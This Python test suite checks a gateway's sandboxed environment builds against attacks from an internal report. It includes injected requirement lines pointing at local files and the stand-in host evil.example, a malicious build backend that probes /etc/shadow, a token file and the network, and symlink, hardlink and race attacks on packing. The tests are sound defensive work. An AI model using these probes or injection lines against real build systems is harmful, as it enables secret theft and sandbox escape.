"""Environment builds against the attacks of H4-report F2, on a real gateway with real
agent tokens: a request naming a local path, a file or another index is refused before
any job, saying what is allowed and nothing of any file; a package's own build code runs
as the requesting agent's identity, in its sandbox, with only the index reachable (never
as root); what that code leaves behind is packed without following links (build.py)."""

from __future__ import annotations

import asyncio
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path
from typing import Any, Iterator

import pytest

from corral.core.config import StorageSettings
from corral.gateway.storage_verbs import scratch_dir

from .conftest import Gateway, add_people, running
from .test_sandbox import canary_listener

SECRET = "corral-h4-secret-first-line-93f1"


@pytest.fixture
def rootonly() -> Iterator[Path]:
    """A root-only file, as /tmp/h4/rootonly/target2 in the report."""
    d = Path(tempfile.mkdtemp(prefix="corral-rootonly-"))
    os.chmod(d, 0o700)
    (d / "target").write_text(SECRET + "\nsecond line\n")
    os.chmod(d / "target", 0o600)
    yield d / "target"
    shutil.rmtree(d, ignore_errors=True)


def _refused(r: Any, *needles: str) -> str:
    assert r.status_code == 400, (r.status_code, r.text)
    msg: str = r.json()["error"]["message"]
    assert SECRET not in r.text and all(n in msg for n in needles), msg
    return msg


def test_requests_naming_paths_files_or_indexes_are_refused_before_any_job(gateway: Gateway, rootonly: Path) -> None:
    t = add_people(gateway)
    evil = rootonly.parent
    lines = [f"evilpkg @ file://{evil}", f"-r {rootonly}", f"-c {rootonly}", f"-e {evil}", f"--requirement={rootonly}",
             "--index-url https://evil.example/simple", "--extra-index-url https://evil.example/simple",
             "-i https://evil.example/simple", f"-f {evil}", f"--find-links={evil}", f"{evil}", "./evilpkg",
             "../evilpkg", "~/evilpkg", "evilpkg-1.0-py3-none-any.whl", "six==1.17.0 --index-url=https://evil.example",
             "evilpkg @ git+https://evil.example/x", "evilpkg @ http://evil.example/x.tar.gz",
             f"six==1.17.0\nevilpkg @ file:{evil}"]
    with gateway.http(t["bot1"]) as h:
        for line in lines:
            msg = _refused(h.post("/v1/env/build", json={"files": {"requirements.txt": line + "\n"}}),
                           "requirements.txt line")
            assert "package name" in msg  # what is allowed
        proj = '[project]\nname = "p"\nversion = "1"\ndependencies = [%s]\n'
        for text in (proj % f'"evilpkg @ file://{evil}"', proj % '"six"' + f'[tool.uv.sources]\nsix = {{ path = "{evil}" }}\n',
                     proj % '"six"' + '[tool.uv]\nindex-url = "https://evil.example/simple"\n',
                     proj % '"six"' + f'[tool.uv]\nfind-links = ["{evil}"]\n',
                     '[build-system]\nrequires = ["evil @ file:///tmp/x"]\nbuild-backend = "x"\n',
                     proj % '"six"' + f'[dependency-groups]\ndev = ["-r {rootonly}"]\n'):
            _refused(h.post("/v1/env/build", json={"files": {"pyproject.toml": text}}), "pyproject.toml")
        lock = f'version = 1\n[[package]]\nname = "evilpkg"\nversion = "1.0"\nsource = {{ path = "{evil}" }}\n'
        _refused(h.post("/v1/env/build", json={"files": {"uv.lock": lock, "pyproject.toml": proj % '"evilpkg"'}}),
                 "uv.lock", "path")
        # A valid request, but this gateway's sandbox reaches no network: the agent's own
        # install could not reach the index, so it is refused now, saying what the admin adds.
        r = h.post("/v1/env/build", json={"files": {"requirements.txt": "six==1.17.0\n"}})
        assert r.status_code == 503 and "allow_hosts" in r.text and "pypi.org" in r.text, r.text
    with gateway.http() as admin:  # nothing was recorded: no job, no request
        assert admin.get("/v1/jobs", params={"limit": 500}).json()["jobs"] == []

    import httpx2
    from mcp import Client
    from mcp.client.streamable_http import streamable_http_client

    from .test_mcp import error_text

    async def over_mcp() -> str:
        async with httpx2.AsyncClient(headers={"Authorization": f"Bearer {t['bot1']}"}, timeout=60) as http:
            async with Client(streamable_http_client(f"{gateway.url}/mcp", http_client=http)) as client:
                return error_text(await client.call_tool("build_environment", {"requirements": f"-r {rootonly}\n"}))

    text = asyncio.run(over_mcp())
    assert SECRET not in text and "option line" in text and "package name" in text, text


def test_the_install_is_the_requesters_job_within_its_budget(tmp_path: Path) -> None:
    """The install job is the agent's own: a token allowed to build but with no CPU-hours
    left starts none (it was a free job of corral's, beyond every budget)."""
    from corral.safety.tokens import Caveats, attenuate

    with running(tmp_path, CORRAL_SANDBOX__ALLOW_HOSTS=json.dumps(["pypi.org", "files.pythonhosted.org"])) as g:
        t = add_people(g)
        with g.http() as admin:
            key = bytes.fromhex(admin.get("/v1/tokens/public-key").json()["public_key"])
        _, broke = attenuate(t["bot1"], Caveats(cpu_hours=0), key)
        with g.http(broke) as h:
            r = h.post("/v1/env/build", json={"files": {"requirements.txt": "six==1.17.0\n"}})
            assert r.status_code == 403 and "budget" in r.json()["error"]["message"], r.text
        with g.http() as admin:
            assert admin.get("/v1/jobs", params={"limit": 50}).json()["jobs"] == []


def _evil_index(root: Path, findings: str, lport: int) -> Path:
    """A package index holding one sdist whose build backend reports who it runs as,
    what it can read and reach, then fails (as the report's evilpkg, served by an index:
    local paths are refused now)."""
    backend = f'''
import os, socket, urllib.request
def _evil(*a, **k):
    out = ["uid=%d" % os.getuid()]
    for name, path in (("shadow", "/etc/shadow"), ("token", {str(findings)!r})):
        try:
            open(path, "rb").read(1); out.append(name + "=READ")
        except OSError:
            out.append(name + "=no")
    try:
        socket.create_connection(("127.0.0.1", {lport}), 2).send(b"leak"); out.append("direct=REACHED")
    except OSError:
        out.append("direct=no")
    try:
        urllib.request.urlopen("http://127.0.0.1:{lport}/", timeout=3); out.append("proxied=REACHED")
    except Exception:
        out.append("proxied=no")
    with open(os.path.join(os.environ.get("UV_CACHE_DIR", "/tmp"), "evil-findings.txt"), "w") as f:
        f.write(" ".join(out))
    raise SystemExit("EVIL-RAN")
get_requires_for_build_wheel = prepare_metadata_for_build_wheel = build_wheel = build_sdist = _evil
'''
    files = {"evilpkg-1.0/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                                           'backend-path = ["."]\n[project]\nname = "evilpkg"\nversion = "1.0"\n',
             "evilpkg-1.0/backend.py": backend,
             "evilpkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n"}
    (root / "simple" / "evilpkg").mkdir(parents=True)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    (root / "evilpkg-1.0.tar.gz").write_bytes(buf.getvalue())
    (root / "simple" / "evilpkg" / "index.html").write_text('<a href="../../evilpkg-1.0.tar.gz">evilpkg-1.0.tar.gz</a>\n')
    return root


def test_a_packages_build_code_runs_as_the_requesting_agent_contained(tmp_path: Path) -> None:
    """The report's evilpkg (a build backend that writes `id`) ran as uid 0 with the
    network and every file; now it runs as bot1's own uid, in bot1's sandbox: no
    /etc/shadow, no gateway secret, nothing reached but the index."""
    listener, heard = canary_listener()
    lport = listener.getsockname()[1]
    index = subprocess.Popen([sys.executable, "-m", "http.server", "0", "--bind", "127.0.0.1"],
                             cwd=_evil_index(tmp_path / "index", str(tmp_path / "home" / "token.key"), lport),
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        line = index.stdout.readline() if index.stdout else ""
        port = int(line.split("port ")[1].split()[0])
        with running(tmp_path, CORRAL_STORAGE__INDEX_URL=f"http://127.0.0.1:{port}/simple",
                     CORRAL_SANDBOX__ALLOW_HOSTS=json.dumps([f"127.0.0.1:{port}"])) as g:
            t = add_people(g)
            with g.http(t["bot1"]) as h:
                r = h.post("/v1/env/build", json={"files": {"requirements.txt": "evilpkg==1.0\n"}})
                assert r.status_code == 202, r.text
                st = r.json()
                for _ in range(600):
                    if st["state"] != "building":
                        break
                    import time

                    time.sleep(0.2)
                    st = h.get(f"/v1/env/{st['digest']}").json()
                assert st["state"] == "failed" and "EVIL-RAN" in st["error"], st
                jobs = h.get("/v1/jobs").json()["jobs"]  # the install was bot1's own job
                assert [j["principal"] for j in jobs] == ["bot1"] and jobs[0]["state"] == "FAILED", jobs
            scratch = scratch_dir(StorageSettings(), g.home.resolve())
            found = list(scratch.rglob("evil-findings.txt"))
            assert len(found) == 1, found
            said = found[0].read_text()
            uid = found[0].stat().st_uid
            assert uid != 0 and f"uid={uid}" in said, said
            assert "shadow=no" in said and "token=no" in said, said
            assert "direct=no" in said and "proxied=no" in said, said
            # the failed build's directories and corral's request are gone; the identity's cache stays
            assert not list(scratch.glob("envbuild/*/b-*")) and not list((g.home / "envbuild").glob("*.json"))
            assert oct(found[0].parent.stat().st_mode & 0o777) == "0o700" and found[0].parent.stat().st_uid == uid
    finally:
        index.kill()
        listener.close()
    assert heard == []


# -- the trusted half against what an install may leave (build.py, real files) --------


@pytest.fixture
def staged(tmp_path: Path) -> Iterator[dict[str, Any]]:
    """An install's output as a requester (uid 61999) left it, and a store."""
    if os.geteuid() != 0 and os.environ.get("CI") != "true":
        pytest.skip("needs root: files of another uid")
    if shutil.which("mksquashfs") is None and os.environ.get("CI") != "true":
        pytest.skip("needs mksquashfs")
    uid = 61999
    work = tmp_path / "b"
    out = work / "out"
    (out / "env" / "lib").mkdir(parents=True)
    (out / "lock.txt").write_text("six==1.17.0\n")
    (out / "env" / "lib" / "six.py").write_text("x = 1\n")
    for p in [out, *out.rglob("*")]:
        os.chown(p, uid, uid, follow_symlinks=False)
    store = tmp_path / "store"
    store.mkdir()
    yield {"store": str(store), "python": sys.executable, "digest": "d" * 32, "scope": f"u{uid}", "uid": uid,
           "out": str(out), "principal": "bot1", "rebuild": False, "max_bytes": 1 << 20, "cpus": 1}


def _pack(req: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    from corral.storage import build

    rc = build.build(req)
    return rc, capsys.readouterr().out


def _listing(store: Path) -> str:
    image = next(store.glob("*.sqsh"))
    return subprocess.run(["unsquashfs", "-lls", str(image)], capture_output=True, text=True, check=True).stdout


def _holds_secret(image: Path) -> bool:
    """Whether any plain file in ``image`` holds SECRET (unpacked: the image is compressed)."""
    with tempfile.TemporaryDirectory() as d:
        subprocess.run(["unsquashfs", "-q", "-n", "-no-xattrs", "-d", f"{d}/x", str(image)], check=True,
                       capture_output=True)
        for root, _dirs, files in os.walk(f"{d}/x"):
            for f in files:
                p = Path(root) / f
                if p.is_file() and not p.is_symlink() and SECRET.encode() in p.read_bytes():
                    return True
    return False


def test_pack_keeps_links_as_links_and_drops_set_id_bits(staged: dict[str, Any], capsys, rootonly: Path) -> None:
    env = Path(staged["out"]) / "env"
    os.symlink(str(rootonly), env / "lib" / "leak")
    os.symlink("/etc", env / "etc-link")
    (env / "bin").mkdir()
    os.chown(env / "bin", staged["uid"], staged["uid"])
    suid = env / "bin" / "suid"
    suid.write_text("#!/bin/sh\n")
    os.chown(suid, staged["uid"], staged["uid"])
    os.chmod(suid, 0o6777)
    rc, out = _pack(staged, capsys)
    assert rc == 0, out
    listing = _listing(Path(staged["store"]))
    assert f"leak -> {rootonly}" in listing and "etc-link -> /etc" in listing, listing
    assert "-rwxr-xr-x root/root" in next(ln for ln in listing.splitlines() if ln.endswith("/bin/suid")), listing
    assert not _holds_secret(next(Path(staged["store"]).glob("*.sqsh")))


@pytest.mark.parametrize("plant", ["fifo", "hardlink", "others_file", "lock_link", "env_link", "out_link", "too_big"])
def test_pack_refuses_what_is_not_the_requesters_own(staged: dict[str, Any], capsys, rootonly: Path,
                                                     plant: str) -> None:
    out = Path(staged["out"])
    env = out / "env"
    if plant == "fifo":  # opened for reading, a FIFO would block the pack forever
        os.mkfifo(env / "lib" / "pipe")
        os.chown(env / "lib" / "pipe", staged["uid"], staged["uid"])
    elif plant == "hardlink":  # protected_hardlinks=0 would let the requester link root's file in
        os.link(rootonly, env / "lib" / "shadow-copy")
    elif plant == "others_file":
        (env / "lib" / "roots.py").write_text("y = 2\n")
    elif plant == "lock_link":
        (out / "lock.txt").unlink()
        os.symlink(str(rootonly), out / "lock.txt")
    elif plant == "env_link":
        shutil.rmtree(env)
        os.symlink(str(rootonly.parent), env)
    elif plant == "out_link":
        shutil.rmtree(out)
        os.symlink(str(rootonly.parent), out)
    elif plant == "too_big":
        big = env / "lib" / "big.bin"
        big.write_bytes(b"\0" * (2 << 20))
        os.chown(big, staged["uid"], staged["uid"])
    rc, said = _pack(staged, capsys)
    assert rc == 2 and "corral-error:" in said, said
    assert SECRET not in said and not list(Path(staged["store"]).glob("*.sqsh")), said


def test_pack_against_a_requester_racing_it_never_packs_what_it_could_not_read(staged: dict[str, Any], capsys,
                                                                               rootonly: Path) -> None:
    """The requester's other processes keep swapping files and directories of its output
    for links to a root-only file (and back) while corral packs: each pack succeeds with
    the requester's own bytes or refuses; the secret is never in the image or the answer."""
    uid = staged["uid"]
    lib = Path(staged["out"]) / "env" / "lib"
    for i in range(200):
        (lib / f"m{i}.py").write_text(f"x = {i}\n")
        os.chown(lib / f"m{i}.py", uid, uid)
    child = os.fork()
    if child == 0:  # the requester: its own uid, its own files
        try:
            os.setgid(uid)
            os.setuid(uid)
            n = 0
            while True:
                n += 1
                for i in range(0, 200, 3):
                    p, t = lib / f"m{i}.py", lib / f".t{i}"
                    try:
                        os.symlink(str(rootonly), t) if n % 2 else t.write_text("y = 1\n")
                        os.rename(t, p)
                    except OSError:
                        pass
                try:  # a whole directory of the walk, now a link, now back
                    os.rename(lib, lib.with_name("lib.real"))
                    os.symlink(str(rootonly.parent), lib)
                    os.unlink(lib)
                    os.rename(lib.with_name("lib.real"), lib)
                except OSError:
                    pass
        finally:
            os._exit(0)
    results = []
    try:
        for _ in range(4):
            rc, said = _pack({**staged, "rebuild": True}, capsys)
            results.append(rc)
            assert rc in (0, 2) and SECRET not in said, said
            for image in Path(staged["store"]).glob("*.sqsh"):
                assert not _holds_secret(image)
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)
    assert 0 in results or 2 in results, results


def test_pack_never_enters_a_mount_inside_the_output(staged: dict[str, Any], capsys) -> None:
    """A requester may mount over part of its output (FUSE, whose reads it could stall
    forever): the pack refuses the mount point instead of reading through it."""
    mnt = Path(staged["out"]) / "env" / "lib" / "mnt"
    mnt.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size=1m,uid={staged['uid']}", "tmpfs", str(mnt)], check=True)
    try:
        rc, said = _pack(staged, capsys)
    finally:
        subprocess.run(["umount", "-l", str(mnt)], check=False)
    assert rc == 2 and "another filesystem" in said, said
